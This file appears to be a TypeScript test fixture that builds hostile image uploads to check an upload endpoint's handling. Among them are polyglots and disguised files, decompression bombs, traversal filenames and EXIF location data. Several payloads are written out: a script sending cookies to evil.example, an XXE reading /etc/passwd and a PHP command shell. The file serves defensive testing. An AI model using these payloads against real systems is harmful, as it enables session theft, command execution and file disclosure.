import { crc32, deflateSync } from 'node:zlib'
import sharp from 'sharp'

/** The expected result for a file: taken, or refused as no picture of ours, as unreadable or as too large. */
export type Fate = 200 | 400 | 413 | 415

export type Hostile = { what: string; bytes: Buffer; fate: Fate; fileName?: string; mime?: string }

/** A plain picture of one colour. */
export const plain = (format: 'jpeg' | 'png' | 'webp' = 'png', { width = 60, height = 40, colour = '#0b6e69' } = {}) =>
  sharp({ create: { width, height, channels: 3, background: colour } })
    .toFormat(format)
    .toBuffer()

/** A picture full of detail: one square of noise, again and again, as noise all over takes ten times as long to make. */
export const crowded = (side: number) => sharp({ create: square(side) }).composite([{ input: tile, tile: true }])

/** The place and the device of a picture: data that nobody else may learn. */
const located = (bytes: Buffer) =>
  sharp(bytes)
    .withExif({
      IFD0: { Copyright: 'SECRET-OWNER', Make: 'SECRET-CAMERA', Orientation: '6' },
      IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '30/1 2/1 3/1', GPSLongitudeRef: 'E', GPSLongitude: '31/1 14/1 0/1' },
    })
    .withMetadata({ orientation: 6 })
    .toBuffer()

export const script = '<script>fetch("//evil.example/"+document.cookie)</script>'

const largest = 5 * 1024 * 1024

/** Files made to harm: every one of them is made here. */
export async function corpus(): Promise<Hostile[]> {
  const png = await plain('png')
  const jpeg = await plain('jpeg')
  const webp = await plain('webp')
  return [
    ...disguised(),
    ...polyglots({ png, jpeg, webp }),
    ...bombs(png),
    ...cut({ png, jpeg: tile, webp }),
    ...(await withMore({ png, jpeg, webp })),
    ...named(png),
    ...(await moving()),
    ...(await otherFormats()),
  ]
}

const square = (side: number) => ({ width: side, height: side, channels: 3 as const, background: '#fff' })

const tile = await sharp({ create: { ...square(300), noise: { type: 'gaussian', mean: 120, sigma: 60 } } })
  .jpeg()
  .toBuffer()

const text = (words: string) => Buffer.from(words)

/** Files that are no picture, whatever they call themselves. */
function disguised(): Hostile[] {
  const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">${script}</svg>`
  const as = (what: string, words: string | Buffer, mime = 'image/png'): Hostile => ({
    what,
    bytes: Buffer.from(words as string),
    fate: 415,
    mime,
  })
  return [
    as('SVG that runs a script', svg, 'image/svg+xml'),
    as('SVG called PNG', svg),
    as('SVG with an external entity', `<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg>&x;</svg>`),
    as('HTML called PNG', `<!doctype html>${script}`),
    as('HTML with a byte order mark', `\ufeff<html>${script}`),
    as('script called JPEG', 'alert(document.domain)', 'image/jpeg'),
    as('PHP called PNG', '<?php system($_GET["c"]); ?>'),
    as('PDF called PNG', '%PDF-1.7\n1 0 obj << /OpenAction << /S /JavaScript >> >>'),
    as('ImageMagick vector file', "push graphic-context\nimage over 0,0 0,0 'https://evil.example/x'"),
    as('PostScript', '%!PS\n(/etc/passwd) (r) file'),
    as('archive called PNG', Buffer.from('504b0304140000000800', 'hex')),
    as('program called PNG', Buffer.from('7f454c460201010000', 'hex')),
    as('nothing at all', ''),
    as('one byte', Buffer.from([0x89])),
    as('half a signature of PNG', Buffer.from([0x89, 0x50, 0x4e, 0x47])),
    as('zeros', Buffer.alloc(1000)),
    as('RIFF that is no WebP', 'RIFF\u0010\u0000\u0000\u0000WAVEfmt '),
  ]
}

/** Files that are a picture and something else as well. */
function polyglots({ png, jpeg, webp }: Record<'png' | 'jpeg' | 'webp', Buffer>): Hostile[] {
  const tail = text(`\n<html>${script}</html>`)
  const comment = Buffer.concat([text('\xff\xfe'), Buffer.from([0, script.length + 2]), text(script)])
  const withComment = Buffer.concat([
    jpeg.subarray(0, 2),
    Buffer.from([0xff, 0xfe]),
    comment.subarray(4),
    jpeg.subarray(2),
  ])
  return [
    { what: 'PNG with HTML behind it', bytes: Buffer.concat([png, tail]), fate: 200 },
    { what: 'JPEG with HTML behind it', bytes: Buffer.concat([jpeg, tail]), fate: 200 },
    { what: 'WebP with HTML behind it', bytes: Buffer.concat([webp, tail]), fate: 200 },
    {
      what: 'JPEG with an archive behind it',
      bytes: Buffer.concat([jpeg, text('PK\x05\x06' + '\0'.repeat(18))]),
      fate: 200,
    },
    { what: 'JPEG with a script as its comment', bytes: withComment, fate: 200 },
    { what: 'PNG with a script as its text', bytes: withChunk(png, 'tEXt', text(`Comment\0${script}`)), fate: 200 },
    { what: 'PNG with a script of its own kind of chunk', bytes: withChunk(png, 'scRt', text(script)), fate: 200 },
    { what: 'GIF that is a script', bytes: text(`GIF89a/*${script}*/=1`), fate: 415 },
    { what: 'HTML with a PNG behind it', bytes: Buffer.concat([tail, png]), fate: 415 },
  ]
}

/** Files that are small when sent and huge when decoded. */
function bombs(png: Buffer): Hostile[] {
  const claims = (width: number, height: number) => {
    const header = Buffer.from(png.subarray(16, 29))
    header.writeUInt32BE(width, 0)
    header.writeUInt32BE(height, 4)
    return Buffer.concat([png.subarray(0, 8), chunk('IHDR', header), png.subarray(33)])
  }
  // One bit for a pixel, all of them black.
  const flat = (side: number) => {
    const header = Buffer.alloc(13)
    header.writeUInt32BE(side, 0)
    header.writeUInt32BE(side, 4)
    header[8] = 1
    const pixels = deflateSync(Buffer.alloc(side * (1 + Math.ceil(side / 8))))
    const chunks = [chunk('IHDR', header), chunk('IDAT', pixels), chunk('IEND', Buffer.alloc(0))]
    return Buffer.concat([png.subarray(0, 8), ...chunks])
  }
  return [
    { what: 'PNG of 15,000 pixels each way', bytes: flat(15_000), fate: 400 },
    { what: 'PNG of just above 25 megapixels', bytes: flat(5001), fate: 400 },
    {
      what: 'PNG that claims two thousand million pixels each way',
      bytes: claims(2 ** 31 - 1, 2 ** 31 - 1),
      fate: 400,
    },
    { what: 'PNG that claims 100,000 pixels by one', bytes: claims(100_000, 1), fate: 400 },
    { what: 'PNG without width', bytes: claims(0, 40), fate: 400 },
    {
      what: 'PNG with a text of 100 MB in 100 kB',
      bytes: withChunk(png, 'zTXt', Buffer.concat([text('Comment\0\0'), deflateSync(Buffer.alloc(100e6))])),
      fate: 200,
    },
    {
      what: 'five megabytes and one byte',
      bytes: Buffer.concat([png, Buffer.alloc(largest + 1 - png.length)]),
      fate: 413,
    },
    {
      what: 'five megabytes of which most is nothing',
      bytes: Buffer.concat([png, Buffer.alloc(largest - png.length)]),
      fate: 200,
    },
  ]
}

/** Files that end too early, or are not whole. */
function cut({ png, jpeg, webp }: Record<'png' | 'jpeg' | 'webp', Buffer>): Hostile[] {
  const broken = Buffer.from(png)
  broken.fill(0xaa, 45, 60)
  return [
    { what: 'PNG cut in the middle', bytes: png.subarray(0, png.length / 2), fate: 400 },
    { what: 'PNG of nothing but its signature', bytes: png.subarray(0, 8), fate: 400 },
    { what: 'JPEG cut in the middle', bytes: jpeg.subarray(0, jpeg.length / 2), fate: 400 },
    { what: 'JPEG of nothing but its first bytes', bytes: Buffer.from([0xff, 0xd8, 0xff, 0xe0]), fate: 400 },
    { what: 'WebP cut in the middle', bytes: webp.subarray(0, webp.length / 2), fate: 400 },
    { what: 'WebP of nothing but its name', bytes: text('RIFF\u0004\u0000\u0000\u0000WEBP'), fate: 400 },
    { what: 'PNG with broken content', bytes: broken, fate: 400 },
    {
      what: 'SVG behind the signature of PNG',
      bytes: Buffer.concat([png.subarray(0, 8), text(`<svg>${script}`)]),
      fate: 400,
    },
    {
      what: 'SVG behind the signature of JPEG',
      bytes: Buffer.concat([Buffer.from([0xff, 0xd8, 0xff]), text('<svg/>')]),
      fate: 400,
    },
  ]
}

/** Files that contain more than the visible picture. */
const withMore = async ({ png, jpeg, webp }: Record<'png' | 'jpeg' | 'webp', Buffer>): Promise<Hostile[]> => [
  { what: 'JPEG that says where it was taken', bytes: await located(jpeg), fate: 200 },
  { what: 'PNG that says where it was taken', bytes: await located(png), fate: 200 },
  { what: 'WebP that says where it was taken', bytes: await located(webp), fate: 200 },
  {
    what: 'JPEG with a script in its XMP',
    bytes: await sharp(jpeg).withXmp(`<x:xmpmeta xmlns:x="adobe:ns:meta/">${script}</x:xmpmeta>`).toBuffer(),
    fate: 200,
  },
  { what: 'JPEG with a colour profile', bytes: await sharp(jpeg).withIccProfile('p3').toBuffer(), fate: 200 },
]

/** Names and types that lie. */
const named = (bytes: Buffer): Hostile[] =>
  [
    ['../../../etc/passwd', 'image/png'],
    ['..\\..\\windows\\win.ini', 'image/png'],
    ['<script>alert(1)</script>.png', 'image/png'],
    ['picture.png\u0000.html', 'image/png'],
    ['picture.html', 'text/html'],
    ['picture.svg', 'image/svg+xml'],
    ['\u202egnp.exe', 'application/octet-stream'],
    [`${'ا'.repeat(3000)}.png`, 'image/png'],
  ].map(
    ([fileName, mime]) =>
      ({ what: `PNG called ${fileName!.slice(0, 40)}`, bytes, fate: 200, fileName, mime }) as Hostile,
  )

/** Animated files. */
async function moving(): Promise<Hostile[]> {
  const frames = await sharp(
    Buffer.concat(Array.from({ length: 40 }, (_, nth) => Buffer.alloc(64 * 64 * 3, nth * 6))),
    { raw: { width: 64, height: 64 * 40, channels: 3, pageHeight: 64 } },
  )
    .webp({ loop: 0, delay: Array(40).fill(20) })
    .toBuffer()
  const gif = await sharp(frames, { animated: true }).gif().toBuffer()
  return [
    { what: 'WebP of forty frames', bytes: frames, fate: 200 },
    { what: 'GIF of forty frames', bytes: gif, fate: 415 },
  ]
}

/** Pictures of kinds that are not ours, whose readers stay shut. */
async function otherFormats(): Promise<Hostile[]> {
  const of = sharp({ create: square(40) })
  return [
    { what: 'TIFF', bytes: await of.clone().tiff().toBuffer(), fate: 415 },
    { what: 'AVIF', bytes: await of.clone().avif().toBuffer(), fate: 415 },
    { what: 'AVIF called PNG', bytes: await of.clone().avif().toBuffer(), fate: 415, mime: 'image/png' },
    { what: 'GIF', bytes: await of.clone().gif().toBuffer(), fate: 415 },
  ]
}

const withChunk = (png: Buffer, kind: string, content: Buffer) =>
  Buffer.concat([png.subarray(0, 33), chunk(kind, content), png.subarray(33)])

function chunk(kind: string, content: Buffer) {
  const length = Buffer.alloc(4)
  length.writeUInt32BE(content.length)
  const named = Buffer.concat([Buffer.from(kind, 'latin1'), content])
  const sum = Buffer.alloc(4)
  sum.writeUInt32BE(crc32(named))
  return Buffer.concat([length, named, sum])
}
